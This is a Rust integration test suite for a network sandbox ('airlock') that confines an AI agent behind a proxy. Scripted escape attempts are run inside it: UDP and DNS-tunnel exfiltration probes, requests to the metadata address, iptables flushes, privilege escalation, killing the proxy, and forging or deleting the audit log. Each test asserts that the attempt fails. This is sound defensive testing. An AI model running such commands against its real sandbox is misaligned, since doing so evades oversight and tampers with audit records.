//! Foundation escape attempts (issue 2): the real entrypoint in its own network, mount and pid
//! namespaces, the agent trying to get out, and tcpdump on the wire proving what left.
//!
//! Every test builds its own World (fake internet + sandbox namespace) and fails, never skips,
//! when it cannot (not root, a tool missing).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common::*;
use std::time::{Duration, Instant};

/// Sends one UDP datagram to the fake internet's UDP sink (203.0.113.10:443, as QUIC would).
const UDP_SEND: &str = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'exfil', ('203.0.113.10', 443))";

#[test]
fn an_agent_session_on_the_wire_only_the_proxy_leaves() {
    let mut world = world();
    let airlock = Airlock::new(&world, POLICY);
    world.start_capture().unwrap();
    let script = [
        // Allowed, through the explicit proxy: HTTPS (CONNECT) and plain HTTP (absolute-form).
        format!(
            "echo https=$({})",
            curl(
                &world,
                "-o /dev/null -w '%{http_code}' https://allowed.test/"
            )
        ),
        format!(
            "echo http=$({})",
            curl(
                &world,
                "-o /dev/null -w '%{http_code}' http://allowed.test/"
            )
        ),
        // Blocked host, IP literals, the metadata address, IPv6, a foreign resolver.
        format!(
            "echo blocked=$({})",
            curl(
                &world,
                "-o /dev/null -w '%{http_code}' http://blocked.test/"
            )
        ),
        probe(
            &world,
            "direct",
            "--noproxy '*' --connect-timeout 5 http://203.0.113.11/",
        ),
        probe(
            &world,
            "meta",
            "--noproxy '*' --connect-timeout 5 http://169.254.169.254/",
        ),
        probe(
            &world,
            "v6",
            "-6 --noproxy '*' --connect-timeout 5 'http://[2001:db8:113::10]/'",
        ),
        "dig +short +tries=1 +time=2 @203.0.113.54 blocked.test >/dev/null 2>&1; echo dig=$?"
            .to_owned(),
        "ping -c1 -W2 203.0.113.10 >/dev/null 2>&1; echo ping=$?".to_owned(),
        // UDP that is not DNS (QUIC, a custom tunnel): sent, and must not leave.
        format!("python3 -c \"{UDP_SEND}\"; echo udp-sent=$?"),
    ]
    .join("\n");
    let out = airlock.run(&world, &script);
    let capture = world.stop_capture().unwrap();
    assert_ok(&out);
    let text = stdout(&out);
    assert!(
        text.contains("https=200"),
        "allowed HTTPS through the proxy:\n{text}\n{}",
        stderr(&out)
    );
    assert!(
        text.contains("http=200"),
        "allowed HTTP through the proxy:\n{text}"
    );
    assert!(text.contains("blocked=403"), "blocked host:\n{text}");
    for probe in ["direct", "meta", "v6"] {
        assert_stopped(&text, probe);
    }
    assert_attempt_failed(&text, "ping");
    assert!(
        text.contains("dig="),
        "the foreign-resolver query ran (the wire check below proves it never left):\n{text}"
    );

    // Upstream saw only the proxy's allowed requests.
    let upstream = world.upstream_log().unwrap();
    assert!(
        upstream.iter().all(|l| l["kind"] != "udp"),
        "a UDP datagram reached upstream: {upstream:?}"
    );
    for line in &upstream {
        let host = line
            .get("host")
            .and_then(|h| h.as_str())
            .unwrap_or_default();
        let qname = line
            .get("qname")
            .and_then(|h| h.as_str())
            .unwrap_or_default();
        assert!(
            !host.contains("blocked") && !qname.contains("blocked"),
            "reached upstream: {line}"
        );
        let server = line
            .get("server")
            .and_then(|s| s.as_str())
            .unwrap_or_default();
        assert!(
            !server.starts_with("203.0.113.11") && !server.starts_with("169.254"),
            "reached upstream: {line}"
        );
    }
    assert!(
        upstream
            .iter()
            .any(|l| l.get("kind").and_then(|k| k.as_str()) == Some("http")),
        "the allowed requests reached upstream"
    );

    // On the wire: every packet is the proxy's.
    let audit = airlock.audit();
    let proxy_packets = assert_only_proxy_traffic(&world, &capture, &audit, &["allowed.test"]);
    assert!(proxy_packets > 0, "the capture saw the proxy's connections");
}

#[test]
fn a_blocked_host_gets_403_with_the_reason_and_nothing_reaches_upstream() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let script = [
        curl(&world, "-D - -o /dev/null http://blocked.test/secret?q=1"),
        format!(
            "{}; echo connect=$?",
            curl(&world, "-o /dev/null https://blocked.test/")
        ),
        curl(&world, "http://blocked.test/"),
    ]
    .join("\n");
    let out = airlock.run(&world, &script);
    assert_ok(&out);
    let text = stdout(&out).to_ascii_lowercase();
    assert!(text.contains("http/1.1 403"), "{text}");
    assert!(
        text.contains("x-airlock-error: blocked-by-policy"),
        "{text}"
    );
    assert!(
        text.contains("\"error\":\"blocked-by-policy\""),
        "JSON body with the reason: {text}"
    );
    assert!(
        !text.contains("connect=0"),
        "CONNECT to a blocked host must fail: {text}"
    );
    let upstream = world.upstream_log().unwrap();
    assert!(
        upstream.iter().all(|l| !l.to_string().contains("blocked")),
        "upstream saw the blocked host: {upstream:?}"
    );
    let audit = airlock.audit();
    let denials: Vec<_> = audit
        .iter()
        .filter(|l| l["host"] == "blocked.test" && l["reason"] == "blocked-by-policy")
        .collect();
    assert!(
        denials.len() >= 3,
        "every denial is audited with its reason: {audit:?}"
    );
}

/// The agent's own clients, trusting what the entrypoint gave them (no `--cacert`): a
/// refused HTTPS destination reads as the rule that refused it, not as a broken network.
#[test]
fn a_refused_https_host_reads_as_a_rule_to_curl_git_and_python() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let script = r#"
curl -sS --max-time 10 https://blocked.test/x; echo " curl=$?"
curl -sSf --max-time 10 https://blocked.test/x 2>&1; echo "curl-f=$?"
GIT_TERMINAL_PROMPT=0 /usr/bin/git ls-remote https://blocked.test/acme/app.git 2>&1; echo "git=$?"
python3 - <<'PY'
import json, urllib.error, urllib.request
try:
    urllib.request.urlopen("https://blocked.test/x", timeout=10)
except urllib.error.HTTPError as e:
    print("python", e.code, e.headers["x-airlock-error"], json.load(e)["error"])
PY
"#;
    let out = airlock.run(&world, script);
    assert_ok(&out);
    let text = stdout(&out);
    assert!(
        text.contains(r#""error":"blocked-by-policy""#)
            && text.contains("network.allow")
            && text.contains(" curl=0"),
        "curl prints the JSON refusal with the way to allow it:\n{text}"
    );
    assert!(
        text.contains("The requested URL returned error: 403") && text.contains("curl-f=22"),
        "{text}"
    );
    assert!(
        text.contains("remote error: airlock: blocked.test is refused (blocked-by-policy)")
            && !text.contains("git=0"),
        "git prints the reason:\n{text}"
    );
    assert!(
        text.contains("python 403 blocked-by-policy blocked-by-policy"),
        "{text}"
    );
    assert!(!text.contains("CONNECT tunnel failed"), "{text}");
    let upstream = world.upstream_log().unwrap();
    assert!(
        upstream.iter().all(|l| !l.to_string().contains("blocked")),
        "nothing reached upstream: {upstream:?}"
    );
    let denials = airlock
        .audit()
        .into_iter()
        .filter(|l| l["host"] == "blocked.test" && l["kind"] == "connect")
        .filter(|l| l["decision"] == "deny" && l["reason"] == "blocked-by-policy")
        .count();
    assert_eq!(denials, 4, "one line per refusal");
}

#[test]
fn a_direct_connection_to_an_upstream_ip_fails_fast() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    // Without proxy variables at all, as a tool that ignores them would behave.
    let script = format!(
        "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy {}",
        probe(
            &world,
            "direct",
            "--connect-timeout 20 http://203.0.113.11/"
        )
    );
    let started = Instant::now();
    let out = airlock.run(&world, &script);
    let took = started.elapsed();
    assert_ok(&out);
    assert_stopped(&stdout(&out), "direct");
    // A silent DROP would hang until the 20 s connect timeout; REJECT fails at once.
    assert!(
        took < Duration::from_secs(15),
        "the direct connection hung ({took:?}) instead of failing fast"
    );
    assert!(world.upstream_log().unwrap().iter().all(|l| {
        l["server"]
            .as_str()
            .is_none_or(|s| !s.starts_with("203.0.113.11"))
    }));
}

#[test]
fn ipv6_egress_fails() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let script = [
        probe(
            &world,
            "tcp6",
            "-6 --noproxy '*' --connect-timeout 5 'http://[2001:db8:113::10]/'",
        ),
        "dig +tries=1 +time=2 @2001:db8:100::1 allowed.test >/dev/null 2>&1; echo dns6=$?"
            .to_owned(),
        "ping -6 -c1 -W2 2001:db8:113::10 >/dev/null 2>&1; echo ping6=$?".to_owned(),
    ]
    .join("\n");
    let out = airlock.run(&world, &script);
    assert_ok(&out);
    let text = stdout(&out);
    assert_stopped(&text, "tcp6");
    for probe in ["dns6", "ping6"] {
        assert_attempt_failed(&text, probe);
    }
    assert!(
        world
            .upstream_log()
            .unwrap()
            .iter()
            .all(|l| !l.to_string().contains("2001:db8")),
        "IPv6 reached upstream"
    );
}

#[test]
fn a_foreign_dns_server_is_unreachable_and_the_query_never_leaves() {
    let mut world = world();
    let airlock = Airlock::new(&world, POLICY);
    world.start_capture().unwrap();
    let script = [
        "dig +tries=1 +time=2 @203.0.113.54 exfil-abc123.blocked.test TXT; echo udp=$?",
        "dig +tcp +tries=1 +time=2 @203.0.113.54 exfil-def456.blocked.test; echo tcp=$?",
    ]
    .join("\n");
    let out = airlock.run(&world, &script);
    let capture = world.stop_capture().unwrap();
    assert_ok(&out);
    let text = stdout(&out);
    assert!(
        !text.contains("status: NOERROR"),
        "a foreign resolver answered:\n{text}"
    );
    let queries = world
        .upstream_log()
        .unwrap()
        .into_iter()
        .filter(|l| l["kind"] == "dns")
        .collect::<Vec<_>>();
    assert!(
        queries
            .iter()
            .all(|q| !q["qname"].as_str().unwrap_or_default().contains("exfil")),
        "query reached upstream: {queries:?}"
    );
    assert!(
        capture
            .dns_queries()
            .iter()
            .all(|(_, q, _)| !q.contains("exfil")),
        "the query crossed the wire"
    );
}

#[test]
fn the_agent_cannot_change_or_read_the_firewall() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let script = "iptables -F 2>&1; echo flush=$?; iptables -P OUTPUT ACCEPT 2>&1; echo policy=$?; \
                  ip6tables -F 2>&1; echo flush6=$?; printf '*filter\\n:OUTPUT ACCEPT [0:0]\\nCOMMIT\\n' | iptables-restore 2>&1; echo restore=$?; iptables-save >/dev/null 2>&1; echo save=$?; \
                  ip link set lo down 2>&1; echo link=$?; ip route add 1.2.3.0/24 dev lo 2>&1; echo route=$?";
    let out = airlock.run(&world, script);
    assert_ok(&out);
    let text = stdout(&out);
    for step in [
        "flush", "policy", "flush6", "restore", "save", "link", "route",
    ] {
        assert_attempt_failed(&text, step);
    }
    // The rules are still in place after the agent's attempts.
    let save = std::process::Command::new("ip")
        .args(["netns", "exec", world.sandbox_ns(), "iptables-save"])
        .output()
        .unwrap();
    let rules = String::from_utf8_lossy(&save.stdout);
    assert!(
        rules.contains(":OUTPUT DROP"),
        "OUTPUT policy changed:\n{rules}"
    );
    assert!(rules.contains("AIRLOCK"), "our nat chain is gone:\n{rules}");
}

#[test]
fn the_agent_has_no_privileges_left() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let script = "grep -E '^(Uid|Gid|Groups|CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status; \
                  su -c id root </dev/null >/dev/null 2>&1; echo su=$?; \
                  unshare -U -r id >/dev/null 2>&1; echo userns=$?; \
                  cat /proc/1/environ >/dev/null 2>&1; echo pid1env=$?";
    let out = airlock.run(&world, script);
    assert_ok(&out);
    let text = stdout(&out);
    let agent = world.users().agent;
    let field = |name: &str| -> String {
        text.lines()
            .find_map(|l| l.strip_prefix(&format!("{name}:")))
            .map(|v| v.trim().to_owned())
            .unwrap_or_default()
    };
    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert_eq!(field(cap), "0000000000000000", "{cap}:\n{text}");
    }
    assert_eq!(field("NoNewPrivs"), "1");
    assert_eq!(field("Seccomp"), "2", "seccomp filter mode");
    assert_eq!(
        field("Uid").split_whitespace().collect::<Vec<_>>(),
        vec![agent.to_string(); 4]
    );
    assert_eq!(
        field("Groups"),
        agent.to_string(),
        "only the agent's own group"
    );
    for step in ["su", "userns", "pid1env"] {
        assert_attempt_failed(&text, step);
    }
}

#[test]
fn the_agent_cannot_kill_the_proxy() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let script = format!(
        "pid=$(pgrep -x airlock-proxy); echo proxy=$pid; kill -9 $pid 2>&1; echo kill=$?; kill -STOP $pid; echo stop=$?; \
         renice -n 19 -p $pid; echo renice=$?; echo nice=$(cut -d' ' -f19 /proc/$pid/stat); \
         sleep 0.2; echo after=$({})",
        curl(
            &world,
            "-o /dev/null -w '%{http_code}' https://allowed.test/"
        )
    );
    let out = airlock.run(&world, &script);
    assert_ok(&out);
    let text = stdout(&out);
    assert!(
        text.lines()
            .any(|l| l.starts_with("proxy=") && l.len() > "proxy=".len()),
        "the agent can see the proxy's pid:\n{text}"
    );
    assert!(
        !text.contains("kill=0") && !text.contains("stop=0"),
        "the agent signalled the proxy:\n{text}"
    );
    assert!(
        !text.contains("renice=0") && text.contains("nice=0"),
        "the agent reniced the proxy:\n{text}"
    );
    assert!(
        text.contains("after=200"),
        "the proxy still serves:\n{text}"
    );
}

#[test]
fn the_agent_exit_status_is_the_container_exit_status() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let out = airlock.run(&world, "exit 7");
    assert_eq!(out.status.code(), Some(7), "{}", stderr(&out));
    let out = airlock.run(&world, "kill -KILL $$");
    assert_eq!(out.status.code(), Some(128 + 9), "{}", stderr(&out));
}

#[test]
fn the_supervisor_restarts_a_dead_proxy() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let code = "-o /dev/null -w '%{http_code}' https://allowed.test/";
    let script = format!(
        "echo before=$({}); touch ready; while [ ! -e killed ]; do sleep 0.05; done; sleep 0.3; echo after=$({})",
        curl(&world, code),
        curl(&world, code)
    );
    let child = airlock.spawn(&world, &script);
    airlock.wait_for_agent_file("ready");
    // Kill the proxy from outside (root on the host), as a crash would.
    let proxy = sandbox_pids(&world, |comm| comm == "airlock-proxy");
    assert_eq!(proxy.len(), 1, "exactly one proxy runs: {proxy:?}");
    signal(proxy[0], "-KILL");
    std::fs::write(airlock.workdir.join("killed"), "").unwrap();
    let out = child.wait_with_output().unwrap();
    assert_ok(&out);
    let text = stdout(&out);
    assert!(
        text.contains("before=200") && text.contains("after=200"),
        "{text}\n{}",
        stderr(&out)
    );
    // The restarted proxy went on with the audit log's hash chain from the killed one's last
    // line: the whole log verifies as one chain from its first line.
    let files: Vec<std::path::PathBuf> = std::fs::read_dir(&airlock.audit_dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.to_string_lossy().contains("audit.jsonl"))
        .collect();
    let (stream, _) = airlock_audit_schema::chain::order(&files);
    let intact = airlock_audit_schema::chain::verify_paths(&stream)
        .unwrap_or_else(|e| panic!("the audit chain across the restart: {e}"));
    assert!(intact.after.is_none() && intact.lines >= 4, "{intact:?}");
    // Reported in airlock's own log (the audit directory's airlock.log), not on the
    // agent's terminal.
    let log = std::fs::read_to_string(airlock.audit_dir.join("airlock.log")).unwrap_or_default();
    assert!(
        log.contains("the proxy exited") && log.contains("restarting it"),
        "the restart is reported in airlock.log:\n{log}"
    );
    assert!(
        !stderr(&out).contains("restarting"),
        "airlock's own lines stay off the agent's terminal:\n{}",
        stderr(&out)
    );
}

#[test]
fn sigterm_reaches_the_agent_and_the_audit_log_is_flushed() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let script = format!(
        "trap 'echo got-term; exit 3' TERM; {} >/dev/null; touch ready; while :; do sleep 0.05; done",
        curl(&world, "http://blocked.test/")
    );
    let child = airlock.spawn(&world, &script);
    airlock.wait_for_agent_file("ready");
    // `comm` is truncated to 15 bytes.
    let init = sandbox_pids(&world, |comm| comm.starts_with("airlock-entryp"));
    assert_eq!(init.len(), 1, "exactly one entrypoint runs: {init:?}");
    signal(init[0], "-TERM");
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(3),
        "the agent's trap ran and its status is ours\n{}",
        stderr(&out)
    );
    assert!(stdout(&out).contains("got-term"));
    let audit = airlock.audit();
    assert!(
        audit.iter().any(|l| l["host"] == "blocked.test"),
        "the denial was flushed before exit: {audit:?}"
    );
}

#[test]
fn the_agent_can_neither_read_nor_forge_the_audit_log() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    let log = airlock.audit_dir.join("audit.jsonl");
    let script = format!(
        "{} >/dev/null\n\
         cat {log} >/dev/null 2>&1; echo read=$?\n\
         (echo '{{\"forged\":true}}' >> {log}) 2>/dev/null; echo append=$?\n\
         ls {dir} >/dev/null 2>&1; echo list=$?\n\
         rm -f {log} 2>/dev/null; echo remove=$?",
        curl(&world, "http://blocked.test/"),
        log = log.display(),
        dir = airlock.audit_dir.display(),
    );
    let out = airlock.run(&world, &script);
    assert_ok(&out);
    let text = stdout(&out);
    for step in ["read", "append", "list"] {
        assert_attempt_failed(&text, step);
    }
    let audit = airlock.audit();
    assert!(
        audit.iter().all(|l| l.get("forged").is_none()),
        "a forged line landed: {audit:?}"
    );
    assert!(
        audit.iter().any(|l| l["host"] == "blocked.test"),
        "the real decision is still there"
    );
}

#[test]
fn the_seccomp_filter_denies_what_docker_leaves_open() {
    let world = world();
    let airlock = Airlock::new(&world, POLICY);
    // Raw syscalls (x86_64 numbers) chosen so that each one gives a *different* answer
    // without our filter: io_uring_setup(1, NULL) is EFAULT, keyctl(GET_KEYRING_ID) and
    // ptrace(TRACEME) succeed, socket(AF_VSOCK) succeeds or is EAFNOSUPPORT. With the
    // filter every one is EPERM (1).
    let probe = r#"import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, nr, args in [("io_uring", 425, (1, 0)), ("keyctl", 250, (0, -3, 0)),
                       ("ptrace", 101, (0, 0, 0, 0)), ("vsock", 41, (40, 1, 0))]:
    ctypes.set_errno(0)
    rc = libc.syscall(nr, *args)
    print(f"{name}={rc}/{ctypes.get_errno()}")
"#;
    let file = airlock.workdir.join("seccomp_probe.py");
    std::fs::write(&file, probe).unwrap();
    let out = airlock.run(&world, &format!("python3 {}", file.display()));
    assert_ok(&out);
    let text = stdout(&out);
    for name in ["io_uring", "keyctl", "ptrace", "vsock"] {
        assert!(
            text.contains(&format!("{name}=-1/1\n")),
            "{name} was not denied with EPERM:\n{text}\n{}",
            stderr(&out)
        );
    }
}
